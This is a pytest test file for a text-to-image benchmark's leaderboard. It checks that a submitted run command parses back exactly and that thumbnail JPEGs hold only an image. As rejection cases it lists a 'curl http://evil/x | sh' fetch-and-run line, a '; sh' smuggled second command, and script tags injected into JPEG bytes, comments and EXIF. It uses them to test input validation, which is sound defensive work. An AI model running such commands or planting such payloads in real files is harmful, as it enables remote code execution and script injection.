"""What a submission states of how it was made."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from t2ibench.apps.leaderboard.claims import settings_of
from t2ibench.apps.leaderboard.packing import pack
from t2ibench.apps.leaderboard.thumbs import is_bare
from t2ibench.apps.leaderboard.verify import verify
from t2ibench.errors import T2IBenchError
from t2ibench.pipeline.progress import SilentReporter
from t2ibench.results.files import read_results
from t2ibench.settings import RunSettings
from tests.apps.leaderboard.forging import refusal, seal

SETTINGS = (
    RunSettings(model="toyland", tasks=("all",)),
    RunSettings(
        model="./a b", tasks=("x", "tag:y"), model_args={"all.gender.female": "0.5", "a": "b,c"},
        encoder=("clip:./x",), judge=("openai:m",), judge_args={"base_url": "http://h/v1"},
        images_per_prompt=7, guided_images_per_prompt=2, times=1.5, n_permutations=200_000,
        control_encoder="none", dtype="float32",
    ),
    RunSettings(model="-odd=", tasks=("all",), limit=2, seed=3, level=0.9),
)  # fmt: skip


@pytest.mark.parametrize("settings", SETTINGS)
def test_a_command_is_read_back(settings: RunSettings) -> None:
    assert settings_of(settings.command()) == settings


@pytest.mark.parametrize(
    "command",
    [
        "",
        "curl http://evil/x | sh",
        "t2ibench run --model",
        "t2ibench run --model toyland --tasks all ; sh",
        "t2ibench run --tasks all --model toyland",
        "t2ibench run --model toyland --tasks all --seed 0",
        "t2ibench run --model toyland --tasks all --times lots",
        "t2ibench run --model toyland --tasks all --include-path /tmp",
        "t2ibench run --model a --model toyland --tasks all",
        f"t2ibench run --model {'x' * 30_000}",
    ],
)
def test_a_command_that_t2ibench_does_not_write(command: str) -> None:
    with pytest.raises(T2IBenchError, match="its command is not one that t2ibench writes"):
        settings_of(command.split())


def test_the_command_is_the_one_of_the_run(packed: Path) -> None:
    results = read_results(packed)
    settings = settings_of(results.command)
    assert settings.model == "toyland" and settings.images_per_prompt == 3
    assert settings.command() == results.command


def jpeg(**options: Any) -> bytes:
    buffer = io.BytesIO()
    pixels = Image.effect_noise((64, 48), 80).convert("RGB")
    pixels.save(buffer, format="JPEG", quality=80, **options)
    return buffer.getvalue()


def test_a_plain_jpeg_holds_its_image_alone() -> None:
    assert is_bare(jpeg()) and is_bare(jpeg(progressive=True)) and is_bare(jpeg(optimize=True))


@pytest.mark.parametrize(
    "data",
    [
        jpeg() + b"<script>alert(1)</script>",
        jpeg() + b"<script>alert(1)</script>\xff\xd9",
        jpeg(comment=b"<script>"),
        jpeg(exif=b"Exif\0\0<script>"),
        jpeg()[:-2],
        b"\xff\xd8\xff\xda",
        b"\xff\xd8\xff\xd9\xff\xd9",
        b"GIF89a" + jpeg(),
    ],
)
def test_a_jpeg_that_holds_more(data: bytes) -> None:
    assert not is_bare(data)


def test_thumbnails_are_plain_small_pictures(run: Path, tmp_path: Path) -> None:
    folder = pack(run, tmp_path, SilentReporter(), thumbnails=1)
    assert verify(folder).level == "recomputed"
    path, *_ = sorted((folder / "thumbs").iterdir())
    honest = path.read_bytes()
    path.write_bytes(honest + b"<script>")
    seal(folder)
    assert f"thumbs/{path.name} holds more than an image" in refusal(folder)
    large = io.BytesIO()
    Image.new("RGB", (97, 10), (9, 99, 9)).save(large, format="JPEG")
    for data in (large.getvalue(), b"no picture", jpeg() * 30):
        path.write_bytes(data)
        seal(folder)
        assert f"thumbs/{path.name} is not a plain JPEG of at most 96 pixels" in refusal(folder)
    path.write_bytes(honest)
    path.rename(path.with_name("0" * 64 + ".jpg"))
    seal(folder)
    assert "does not belong to any image" in refusal(folder)
